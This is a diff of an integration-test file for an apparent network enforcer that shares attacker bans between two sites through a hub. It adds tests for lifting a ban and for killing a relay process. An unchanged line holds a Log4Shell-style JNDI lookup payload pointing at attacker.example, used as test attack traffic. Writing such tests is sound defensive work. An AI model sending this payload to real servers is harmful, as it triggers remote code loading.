@@ -5,7 +5,7 @@
 import { spawn } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import { once } from 'node:events';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { connect, createServer, type Server, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -19,7 +19,7 @@ import { createEd25519, edPublicOf, xPublicOf } from '#enforcer/mesh/signed/keys
 import { createMeshState } from '#enforcer/mesh/state/state.ts';
 import { accessTo } from '#test/support/cloud/deployment.ts';
 import { brokerOf, type Cloud, cloud } from '#test/support/cloud/provided.ts';
-import { createEnforcerHost, type EnforcerHost, eventually, HONEYMESH } from '#test/support/enforcer.ts';
+import { createEnforcerHost, type EnforcerHost, eventually, HONEYMESH, type RunningEnforcer } from '#test/support/enforcer.ts';
 import { createLab, type Namespace } from '#test/support/namespaces.ts';
 
 const TRAP_PORT = 8080;
@@ -42,6 +42,7 @@ describe.skipIf(provided === null)('two enforcers that share no network', () => 
   const open = new Set<Socket>();
   let broker: Server | null = null;
   let signer: string;
+  let running: readonly RunningEnforcer[] = [];
   let home: Site;
   let shop: Site;
 
@@ -155,7 +156,7 @@ mesh: { bind: "127.0.0.1:7946", signatures: required, key: ${Buffer.from(secret(
   }
 
   test('an operator enrols both while they run: no restart, and each is known to the hub', async () => {
-    const running = [home, shop].map(({ enforcer }) => enforcer.run());
+    running = [home, shop].map(({ enforcer }) => enforcer.run());
     await Promise.all(running.map(one => one.ready()));
     expect((await status(home)).hub.state).toBe('off');
     for (const one of [home, shop]) expect(await enrol(one)).toContain('uses it from now on');
@@ -174,13 +175,24 @@ mesh: { bind: "127.0.0.1:7946", signatures: required, key: ${Buffer.from(secret(
     await eventually('receipts for all', async () => (await status(home)).hub.waiting === 0, 30_000);
   });
 
-  test('while the hub is gone both go on, and nothing is lost', async () => {
+  test('what the operator of one lifts is lifted at the other', async () => {
+    const attacker = '203.0.113.2';
+    await home.enforcer.honeymesh(['bans', 'remove', attacker]);
+    await eventually('the shop lifts it', async () => (await banOf(shop, attacker)) === undefined, 30_000);
+    expect(await visit(shop, attacker, false)).toBe(true);
+  });
+
+  test('while the hub is gone both go on, and nothing is lost, though the process that speaks with it is killed', async () => {
     const attacker = '203.0.113.3';
     await hubGoes();
     expect(await visit(home, attacker, true)).toBe(true);
     await eventually('home bans alone', async () => (await banOf(home, attacker))?.enforced === true);
     await eventually('it waits for the hub', async () => (await status(home)).hub.waiting > 0, 15_000);
     expect(await banOf(shop, attacker)).toBeUndefined();
+    const relay = relayOf(running[0]?.daemonPid() ?? 0);
+    console.log(`cloud: the relay's process takes ${relay.megabytes} MB`);
+    process.kill(relay.pid, 'SIGKILL');
+    await eventually('it says so', async () => (await status(home)).degraded.some(({ why }) => why.includes('SIGKILL')));
     await hubComes();
     await eventually('the shop hears of it', async () => (await banOf(shop, attacker))?.enforced === true, 50_000);
     expect(await visit(shop, attacker, false)).toBe(false);
@@ -189,6 +201,14 @@ mesh: { bind: "127.0.0.1:7946", signatures: required, key: ${Buffer.from(secret(
 
 // biome-ignore lint/suspicious/noTemplateCurlyInString: the attackers' own notation
 const ATTACK = 'GET /?q=${jndi:ldap://attacker.example/a} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n';
+
+/** The one that holds no memory of ours but the outbox. */
+function relayOf(daemon: number): { readonly pid: number; readonly megabytes: number } {
+  const pids = readFileSync(`/proc/${daemon}/task/${daemon}/children`, 'utf8').trim().split(' ').map(Number);
+  const pid = pids.find(one => readFileSync(`/proc/${one}/cmdline`, 'utf8').includes('relay/process/entry'));
+  if (pid === undefined) throw new Error('the daemon has no such child');
+  return { pid, megabytes: Math.round(Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]) / 1_024) };
+}
 
 const VISIT = `
 import socket, sys
